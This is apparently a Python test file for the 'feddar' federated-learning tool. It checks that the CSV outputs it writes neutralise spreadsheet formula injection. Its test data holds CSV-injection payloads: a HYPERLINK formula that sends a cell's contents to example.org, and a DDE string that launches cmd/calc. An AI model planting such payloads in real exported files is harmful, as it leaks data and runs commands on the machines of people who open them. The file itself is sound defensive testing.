"""Text of users and of sites that a spreadsheet would take for a formula, in every CSV file that feddar writes."""

import csv
from io import StringIO

import pandas as pd
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from feddar.algorithm.wire import pack, unpack
from feddar.federation.coordinator import EXCHANGES_FILE, coordinate
from feddar.federation.links.local import LocalLink
from feddar.results.csv_files import guarded, unguarded, write_csv
from feddar.results.run_folder import read_metrics
from helpers.command import COLUMNS, feddar
from helpers.sites import NAMES, make_sites, make_study, write_tables

FORMULA = '=HYPERLINK("http://example.org/?"&A1,"click")'
ODD = (
    FORMULA,
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "a\r=1",
    "\n=1",
    "'=1",
    "''+x",
    "＝1+1",
    "-",
    "+49 30 1",
)
PLAIN = ("A", "", "-1.5", "+3", "-.5e-3", "a=b", "'tis", "race: -", "1-2")


def cells_of(path):
    with path.open(encoding="utf-8", newline="") as file:
        return [cell for row in csv.reader(file) for cell in row]


def is_formula(cell):
    """Return whether a spreadsheet might compute a cell, which is no number."""
    try:
        float(cell)
    except ValueError:
        return cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝"))
    return False


@given(st.text() | st.sampled_from(ODD).flatmap(lambda odd: st.text().map(lambda more: odd + more)))
@example("'-5")
@example("-5")
def test_reading_undoes_what_writing_does(text):
    assert unguarded(guarded(text)) == text
    assert not is_formula(guarded(text))


@pytest.mark.parametrize("value", [*PLAIN, -1.5, 3, True, None])
def test_numbers_and_other_text_stay_as_they_are(value):
    assert guarded(value) is value


def test_a_table_is_written_without_formulas():
    frame = pd.DataFrame({"name": [*ODD, *PLAIN], "value": [-float(n) for n in range(len(ODD) + len(PLAIN))]})
    file = StringIO()
    write_csv(frame, file)
    found = pd.read_csv(StringIO(file.getvalue(), newline=""), keep_default_na=False)
    assert len(found) == len(frame)
    assert not any(map(is_formula, found["name"]))
    assert found["value"].tolist() == frame["value"].tolist()
    assert [unguarded(name) for name in found["name"]] == frame["name"].tolist()


@pytest.fixture
def table(tmp_path):
    rows = [(f"s{i % 2}", ODD[i % 4], (i * 7) % 11, "yes" if (i * 7) % 11 > 5 else "-no") for i in range(160)]
    pd.DataFrame(rows, columns=["hospital", "race", "x", "outcome"]).to_csv(tmp_path / "t.csv", index=False)
    return tmp_path


def test_no_command_writes_formulas(table):
    feddar("run", "t.csv", *COLUMNS, "--rounds", 1, "--out", "out", cwd=table)
    feddar("predict", "out", "t.csv", cwd=table)
    some = ["--methods", "fedavg,feddar", "--rounds", 1, "--folds", 2, "--jobs", 1, "--no-references"]
    feddar("compare", "t.csv", *COLUMNS, *some, "--out", "compared", cwd=table)
    written = [path for path in table.rglob("*.csv") if path.name != "t.csv"]
    assert {path.name for path in written} >= {"metrics.csv", "predictions.csv", "results.csv", "curves.csv"}
    for path in written:
        cells = cells_of(path)
        assert any(FORMULA in cell for cell in cells), path
        assert not [cell for cell in cells if is_formula(cell)], path
    assert FORMULA in set(read_metrics(table / "out" / "metrics.csv")["name"])
    assert "HYPERLINK" in feddar("report", "out", cwd=table) or "HYPERLINK" in (table / "report.html").read_text()


def test_what_a_site_says_is_no_formula_at_the_coordinator(tmp_path):
    write_tables(tmp_path / "data")
    study = make_study(tmp_path / "data", rounds=1)
    sites = make_sites(tmp_path / "data", tmp_path / "kept")

    def hostile(message):
        asked = unpack(message)[0]["kind"] == "ask"
        return pack({"kind": "failed", "why": FORMULA}) if asked else sites[NAMES[2]].answer(message)

    handlers = {NAMES[0]: sites[NAMES[0]].answer, NAMES[1]: sites[NAMES[1]].answer, "@hostile": hostile}
    coordinate(study, LocalLink(handlers), tmp_path / "out")
    cells = cells_of(tmp_path / "out" / EXCHANGES_FILE)
    assert any("@hostile" in cell for cell in cells) and any(FORMULA in cell for cell in cells)
    assert not [cell for cell in cells if is_formula(cell)]
